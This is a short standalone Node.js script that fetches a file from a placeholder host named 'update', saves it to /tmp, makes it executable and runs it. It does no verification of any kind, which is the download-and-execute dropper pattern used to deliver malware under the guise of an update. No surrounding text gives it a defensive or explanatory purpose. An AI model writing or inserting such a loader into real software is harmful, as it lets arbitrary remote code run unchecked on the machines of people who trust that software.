const fs = require('fs');
const https = require('https');
const { execFile } = require('child_process');
const f = '/tmp/update';
https.get('https://example.invalid/update', (res) => {
  const out = fs.createWriteStream(f);
  res.pipe(out);
  out.on('finish', () => {
    fs.chmodSync(f, 0o755);
    execFile(f);
  });
});
